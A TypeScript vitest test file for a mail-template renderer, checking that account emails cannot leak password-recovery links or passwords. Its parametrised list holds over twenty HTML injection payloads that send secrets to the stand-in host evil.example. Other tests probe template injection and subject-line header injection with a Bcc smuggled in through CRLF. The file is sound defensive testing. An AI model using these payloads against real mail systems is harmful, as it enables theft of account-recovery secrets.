import { describe, expect, test } from 'vitest'
import { renderMail } from '../../../../src/server/features/messaging/mail/render'
import shipped from '../../../../src/server/features/messaging/mail/templates.json'

const LINK = 'https://office.example/recover-password?u=0b7d2f1c-aaaa-4bbb-8ccc-0123456789ab'
const VALUES = {
  'link.recover': LINK,
  'link.login': 'https://office.example/',
  password: 'abcd-efgh',
  message: '<img src=//x>',
}
const html = (body: string) => renderMail({ subject: 's', body }, VALUES).html

/** Everything a mail program follows or fetches by itself. */
const fetched = (text: string) =>
  [
    ...text.matchAll(/(?:src|srcset|background|action|style|href|poster|data)\s*=\s*("[^"]*"|'[^']*'|\S+)/gi),
  ].map(([all]) => all)

describe('a mail about an account', () => {
  test.each([
    '<img src="https://evil.example/?{{link.recover}}">',
    '<img src="{{link.recover}}">',
    '<img src=https://evil.example/{{password}} />',
    '<p style="background:url(https://evil.example/{{link.recover}})">x</p>',
    '<table background="https://evil.example/{{link.recover}}"><tr><td>x</td></tr></table>',
    '<style>p{background:url(https://evil.example/{{link.recover}})}</style>',
    '<link rel="prefetch" href="https://evil.example/{{link.recover}}">',
    '<iframe src="https://evil.example/{{link.recover}}"></iframe>',
    '<form action="https://evil.example/"><input name="u" value="{{link.recover}}"></form>',
    '<svg><image href="https://evil.example/{{link.recover}}"/></svg>',
    '<video poster="https://evil.example/{{link.recover}}"></video>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{{link.recover}}">',
    '<base href="https://evil.example/">',
    '<a href="https://evil.example/?u={{link.recover}}">x</a>',
    '<a href="https://evil.example/?u={{ password }}">x</a>',
    '<a href="//evil.example/{{link.recover}}">x</a>',
    '<a href="{{link.recover}}.evil.example">x</a>',
    '<a href="javascript:fetch({{link.recover}})">x</a>',
    '<a href="{{message}}">x</a>',
    '<a ping="https://evil.example/{{link.recover}}" href="{{link.login}}">x</a>',
    '<!-- <img src="https://evil.example/{{link.recover}}"> -->',
    '<<img src="https://evil.example/{{link.recover}}">',
  ])('%s sends no link to anybody', (body) => {
    const text = html(body)
    expect(text).not.toMatch(/<(img|style|link|iframe|form|input|svg|image|video|meta|base)/i)
    expect(
      fetched(text).filter((one) => one !== `href="${LINK}"` && one !== 'href="https://office.example/"'),
    ).toEqual([])
    expect(text).not.toContain('evil.example')
  })

  test('a link is the address of a link, its text, or one by itself', () => {
    expect(html('<p><a href="{{ link.recover }}">Recover</a></p>')).toBe(
      `<p><a href="${LINK}">Recover</a></p>`,
    )
    expect(html('<a href="{{link.recover}}"><b>{{link.recover}}</b></a>')).toBe(
      `<a href="${LINK}"><b>${LINK}</b></a>`,
    )
    expect(html('<p>Here: {{link.recover}}</p>')).toBe(`<p>Here: <a href="${LINK}">${LINK}</a></p>`)
  })

  test('values are text, and a subject tells no secret', () => {
    expect(html('<p>{{message}}</p>')).toBe('<p>&lt;img src=//x&gt;</p>')
    expect(renderMail({ subject: 'A {{link.recover}}{{password}} b', body: '' }, VALUES).subject).toBe('A  b')
  })

  test('the shipped templates lose nothing', () => {
    for (const { body } of Object.values(shipped))
      for (const text of Object.values(body))
        expect(renderMail({ subject: '', body: text }, {}).html).toBe(text.replace(/\{\{[^}]*\}\}/g, ''))
  })
})

describe('a template of a mail', () => {
  test('values are escaped: a name cannot bring markup along', () => {
    const { html, plain } = renderMail(
      { subject: 's', body: '<p>{{user.fullname}}</p>' },
      { 'user.fullname': '<img src=x> "&\'' },
    )
    expect(html).toBe('<p>&lt;img src=x&gt; &quot;&amp;&#39;</p>')
    expect(plain).toBe('<img src=x> "&\'')
  })

  test('placeholders are all it knows: what looks like code stays text, an unknown name becomes nothing', () => {
    const body = '{{constructor}}{{toString}}{{a.b}}{{7*7}}{%if x%}{{user.fullname}}'
    const { html } = renderMail(
      { subject: '{{__proto__}}', body },
      { 'user.fullname': '{{secret}}', secret: 'x' },
    )
    expect(html).toBe('{{7*7}}{%if x%}{{secret}}')
  })

  test('the lines of a value stay lines, in the markup and in the plain text', () => {
    const { html, plain } = renderMail(
      { subject: 'a', body: '<p>Nota: {{note}}</p>' },
      { note: 'prima\nseconda\r\n<terza>' },
    )
    expect([html, plain]).toEqual([
      '<p>Nota: prima<br>seconda<br>&lt;terza&gt;</p>',
      'Nota: prima\nseconda\n<terza>',
    ])
  })

  test('an address in angle brackets and the first number of a list are kept', () => {
    const { html, plain } = renderMail(
      {
        subject: 'a',
        body: 'Mario <mario@x.it> scrive<ol start="3" onclick="x"><li>c</li></ol><ol start="x"><li>a</li></ol>',
      },
      {},
    )
    expect(html).toBe('Mario &lt;mario@x.it&gt; scrive<ol start="3"><li>c</li></ol><ol><li>a</li></ol>')
    expect(plain).toContain('Mario <mario@x.it> scrive')
  })

  test('a subject is one line, whatever a value holds', () => {
    const { subject } = renderMail(
      { subject: 'Hello {{name}}', body: '' },
      { name: 'Laura\r\nBcc: all@company.example\u2028x' },
    )
    expect(subject).toBe('Hello Laura Bcc: all@company.example x')
  })
})
